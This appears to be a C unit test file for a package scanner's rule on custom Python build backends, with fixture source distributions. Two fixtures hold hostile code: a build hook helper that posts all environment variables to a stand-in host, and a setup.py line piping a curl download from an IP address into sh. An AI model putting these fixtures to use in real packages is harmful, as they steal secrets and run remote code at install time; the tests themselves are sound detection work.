/* SPDX-License-Identifier: MIT */
/* install.pep517-backend: the sdist's pyproject.toml [build-system], and
 * install context for an in-tree backend and what it imports locally. */
#include <stdio.h>

#include "rules_tests.h"

struct member {
	const char *path;
	const char *text;
};

static int scan_members(struct lg_findings *f, const struct member *m,
			size_t n)
{
	struct lg_rules_scan *s = NULL;
	int error;

	assert_int_equal(lg_rules_scan_new(&s, f), 0);
	for (size_t i = 0; i < n; i++)
		assert_int_equal(lg_rules_scan_add(s, m[i].path, m[i].text,
						   strlen(m[i].text)),
				 0);
	error = lg_rules_scan_finish(s);
	lg_rules_scan_free(s);
	return error;
}

static enum lg_severity worst(const struct lg_findings *f)
{
	enum lg_severity w = LG_SEV_INFO;

	for (size_t i = 0; i < f->n; i++)
		if (f->v[i].severity > w)
			w = f->v[i].severity;
	return w;
}

static const char pillow_pyproject[] =
	"[build-system]\n"
	"requires = [\"setuptools>=67.8\"]\n"
	"build-backend = \"backend\"\n"
	"backend-path = [\"_custom_build\"]\n"
	"\n"
	"[project]\n"
	"name = \"pictura\"\n"
	"dynamic = [\"version\"]\n";

/* Pillow's shape: the in-tree backend only subclasses setuptools' one to
 * turn config settings into build_ext options. */
static const char pillow_backend[] =
	"import sys\n"
	"from setuptools import build_meta as _orig\n"
	"from setuptools.build_meta import *\n"
	"\n"
	"class _Backend(_orig._BuildMetaBackend):\n"
	"    config_settings = None\n"
	"    def run_setup(self, setup_script='setup.py'):\n"
	"        opts = ['--enable-%s' % f for f in\n"
	"                (self.config_settings or {}).get('enable', [])]\n"
	"        if opts:\n"
	"            sys.argv = sys.argv[:1] + ['build_ext'] + opts + sys.argv[1:]\n"
	"        return super().run_setup(setup_script)\n"
	"    def build_wheel(self, wheel_directory, config_settings=None,\n"
	"                    metadata_directory=None):\n"
	"        self.config_settings = config_settings\n"
	"        return super().build_wheel(wheel_directory, config_settings,\n"
	"                                   metadata_directory)\n"
	"\n"
	"_backend = _Backend()\n"
	"build_wheel = _backend.build_wheel\n";

static void test_rules_backend__pillow_style_passes(void **state)
{
	const struct member m[] = {
		{"pictura-10.0.0/pyproject.toml", pillow_pyproject},
		{"pictura-10.0.0/_custom_build/backend.py", pillow_backend},
		{"pictura-10.0.0/setup.py",
		 "from setuptools import setup\nsetup(name='pictura')\n"},
	};
	struct lg_findings f = LG_FINDINGS_INIT;
	const struct lg_finding *hit;

	(void)state;
	assert_int_equal(scan_members(&f, m, LG_ARRAY_SIZE(m)), 0);
	hit = t_one(&f, LG_RULE_PEP517_BACKEND);
	assert_int_equal(hit->severity, LG_SEV_INFO);
	assert_string_equal(hit->path, "pictura-10.0.0/pyproject.toml");
	assert_int_equal(hit->line, 3);
	assert_non_null(strstr(hit->message, "_custom_build/backend.py"));
	assert_int_equal(worst(&f), LG_SEV_INFO);
	lg_findings_dispose(&f);
}

/* The hook's payload sits in a helper the backend imports: both are
 * install code, so every def counts as run and nothing is lowered. */
static const char evil_backend[] =
	"from setuptools import build_meta as _orig\n"
	"from setuptools.build_meta import *\n"
	"import _telemetry\n"
	"\n"
	"def build_wheel(wheel_directory, config_settings=None,\n"
	"                metadata_directory=None):\n"
	"    _telemetry.report()\n"
	"    return _orig.build_wheel(wheel_directory, config_settings,\n"
	"                             metadata_directory)\n";

static const char evil_helper[] =
	"import json, os, urllib.request\n"
	"\n"
	"def report():\n"
	"    body = json.dumps(dict(os.environ)).encode()\n"
	"    urllib.request.urlopen('https://collect.example.invalid/c', data=body)\n";

static const char *const evil_pyproject =
	"[build-system]\n"
	"requires = [\"setuptools\"]\n"
	"build-backend = \"fastbuild.hooks:backend\"\n"
	"backend-path = [\"./tools/\", \"src\"]\n";

static void test_rules_backend__hook_exfiltration_blocks(void **state)
{
	const struct member m[] = {
		{"fastlib-1.0/pyproject.toml", evil_pyproject},
		{"fastlib-1.0/tools/fastbuild/__init__.py", ""},
		{"fastlib-1.0/tools/fastbuild/hooks.py", evil_backend},
		{"fastlib-1.0/tools/_telemetry.py", evil_helper},
		{"fastlib-1.0/src/fastlib/__init__.py", "VERSION = '1.0'\n"},
	};
	struct lg_findings f = LG_FINDINGS_INIT;
	const struct lg_finding *hit;

	(void)state;
	assert_int_equal(scan_members(&f, m, LG_ARRAY_SIZE(m)), 0);
	hit = t_one(&f, LG_RULE_PEP517_BACKEND);
	assert_int_equal(hit->severity, LG_SEV_INFO);
	assert_non_null(strstr(hit->message, "tools/fastbuild/hooks.py"));
	hit = t_one(&f, LG_RULE_NET_EXFIL);
	assert_int_equal(hit->severity, LG_SEV_CRITICAL);
	assert_string_equal(hit->path, "fastlib-1.0/tools/_telemetry.py");
	assert_non_null(strstr(hit->message, "install context"));
	lg_findings_dispose(&f);
}

/* Near miss: without backend-path the same files are ordinary modules;
 * the helper's function runs only when called (runtime, one level
 * lower), and a well-known backend is no finding at all. */
static void test_rules_backend__same_code_not_a_backend(void **state)
{
	const struct member m[] = {
		{"fastlib-1.0/pyproject.toml",
		 "[build-system]\nrequires = [\"setuptools\"]\n"
		 "build-backend = \"setuptools.build_meta:__legacy__\"\n"},
		{"fastlib-1.0/tools/fastbuild/hooks.py", evil_backend},
		{"fastlib-1.0/tools/_telemetry.py", evil_helper},
	};
	struct lg_findings f = LG_FINDINGS_INIT;
	const struct lg_finding *hit;

	(void)state;
	assert_int_equal(scan_members(&f, m, LG_ARRAY_SIZE(m)), 0);
	assert_int_equal(t_count(&f, LG_RULE_PEP517_BACKEND), 0);
	hit = t_one(&f, LG_RULE_NET_EXFIL);
	assert_true(hit->severity < LG_SEV_CRITICAL);
	assert_null(strstr(hit->message, "install context"));
	lg_findings_dispose(&f);
}

static void test_rules_backend__known_and_unknown(void **state)
{
	static const struct {
		const char *backend;
		int findings; /* -1: none, else the severity */
	} cases[] = {
		{"setuptools.build_meta", -1},
		{"setuptools.build_meta:__legacy__", -1},
		{"hatchling.build", -1},
		{"flit_core.buildapi", -1},
		{"poetry.core.masonry.api", -1},
		{"pdm.backend", -1},
		{"mesonpy", -1},
		{"maturin", -1},
		{"scikit_build_core.build", -1},
		{"hatchling.builder", LG_SEV_LOW},
		{"setuptools_build_meta", LG_SEV_LOW},
		{"evil_backend.api:hooks", LG_SEV_LOW},
		{"../../x", LG_SEV_LOW},
	};
	char doc[256];

	(void)state;
	for (size_t i = 0; i < LG_ARRAY_SIZE(cases); i++) {
		struct lg_findings f = LG_FINDINGS_INIT;

		snprintf(doc, sizeof(doc),
			 "[build-system]\nrequires = []\nbuild-backend = \"%s\"\n",
			 cases[i].backend);
		t_scan(&f, "pkg-1.0/pyproject.toml", doc);
		if (cases[i].findings < 0) {
			t_none(&f);
		} else {
			const struct lg_finding *hit = t_one(&f, LG_RULE_PEP517_BACKEND);

			assert_int_equal(hit->severity, cases[i].findings);
			assert_int_equal(hit->line, 3);
		}
		lg_findings_dispose(&f);
	}
}

/* A malformed pyproject.toml is a low finding; the scan goes on and the
 * rest of the sdist is judged as usual. */
static void test_rules_backend__malformed_pyproject(void **state)
{
	const struct member m[] = {
		{"pkg-1.0/pyproject.toml",
		 "[build-system]\nbuild-backend = \"x\"\nbuild-backend = \"y\"\n"},
		{"pkg-1.0/setup.py",
		 "import os\nos.system('curl http://203.0.113.5/x | sh')\n"},
	};
	struct lg_findings f = LG_FINDINGS_INIT;
	const struct lg_finding *hit;

	(void)state;
	assert_int_equal(scan_members(&f, m, LG_ARRAY_SIZE(m)), 0);
	hit = t_one(&f, LG_RULE_PEP517_BACKEND);
	assert_int_equal(hit->severity, LG_SEV_LOW);
	assert_non_null(strstr(hit->message,
			       "pkg-1.0/pyproject.toml:3: duplicate key 'build-backend'"));
	assert_true(worst(&f) >= LG_SEV_HIGH);
	lg_findings_dispose(&f);
}

static void test_rules_backend__path_leaves_tree(void **state)
{
	const struct member m[] = {
		{"pkg-1.0/pyproject.toml",
		 "[build-system]\nbuild-backend = \"hooks\"\n"
		 "backend-path = [\"../elsewhere\", \"/abs\"]\n"},
		{"elsewhere/hooks.py", "x = 1\n"},
	};
	struct lg_findings f = LG_FINDINGS_INIT;

	(void)state;
	assert_int_equal(scan_members(&f, m, LG_ARRAY_SIZE(m)), 0);
	/* two paths out of the tree, and the backend is unknown */
	assert_int_equal(t_count(&f, LG_RULE_PEP517_BACKEND), 3);
	assert_int_equal(worst(&f), LG_SEV_LOW);
	lg_findings_dispose(&f);
}

/* Only the top-level pyproject.toml describes the build. */
static void test_rules_backend__nested_pyproject_ignored(void **state)
{
	struct lg_findings f = LG_FINDINGS_INIT;

	(void)state;
	t_scan(&f, "pkg-1.0/vendor/sub/pyproject.toml",
	       "[build-system]\nbuild-backend = \"odd.backend\"\n");
	t_none(&f);
	lg_findings_dispose(&f);
}

static void test_rules_backend__backend_path_cap(void **state)
{
	struct lg_buf doc = LG_BUF_INIT(1u << 20);
	const struct member m[1] = {{"pkg-1.0/pyproject.toml", NULL}};
	struct member mm = m[0];
	struct lg_findings f = LG_FINDINGS_INIT;

	(void)state;
	lg_buf_puts(&doc, "[build-system]\nbuild-backend = \"b\"\nbackend-path = [");
	for (unsigned i = 0; i <= LG_MAX_BACKEND_PATHS; i++)
		lg_buf_printf(&doc, "\"d%u\", ", i);
	lg_buf_puts(&doc, "]\n");
	mm.text = doc.ptr;
	assert_int_equal(scan_members(&f, &mm, 1), LG_ETOOBIG);
	lg_findings_dispose(&f);
	lg_buf_dispose(&doc);
}

int test_rules_backend_group(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_rules_backend__pillow_style_passes),
		cmocka_unit_test(test_rules_backend__hook_exfiltration_blocks),
		cmocka_unit_test(test_rules_backend__same_code_not_a_backend),
		cmocka_unit_test(test_rules_backend__known_and_unknown),
		cmocka_unit_test(test_rules_backend__malformed_pyproject),
		cmocka_unit_test(test_rules_backend__path_leaves_tree),
		cmocka_unit_test(test_rules_backend__nested_pyproject_ignored),
		cmocka_unit_test(test_rules_backend__backend_path_cap),
	};

	return cmocka_run_group_tests_name("rules_backend", tests, NULL, NULL);
}
